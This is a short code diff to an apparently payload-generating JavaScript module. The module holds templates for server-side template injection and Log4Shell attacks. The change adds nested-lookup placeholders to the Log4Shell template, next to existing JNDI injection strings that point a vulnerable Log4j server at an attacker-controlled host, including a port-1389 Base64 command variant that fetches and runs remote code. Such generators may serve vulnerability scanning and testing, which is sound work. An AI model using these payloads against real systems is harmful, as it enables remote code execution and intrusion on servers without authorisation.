@@ -1,5 +1,7 @@
 /** Templates that compute, and look-ups of log4j. */
+
 import { lines } from './grammar.mjs'
+import { nestedLookup } from './lookups.mjs'
 
 export const TEMPLATE = {
   ssti: lines`
@@ -181,7 +183,17 @@ export const TEMPLATE = {
     'block x',
   ],
 
+  nested: nestedLookup,
   log4shell: lines`
+    §nested§
+    §nested§
+    §nested§
+    §nested§
+    §nested§
+    §nested§
+    §nested§
+    §val§§nested§
+    Mozilla/5.0 §nested§
     \${jndi:§jp§://§host§/§rnd§}
     \${jndi:§jp§://§host§:§num§/§rnd§}
     \${jndi:§jp§://§host§:1389/Basic/Command/Base64/§b64§}
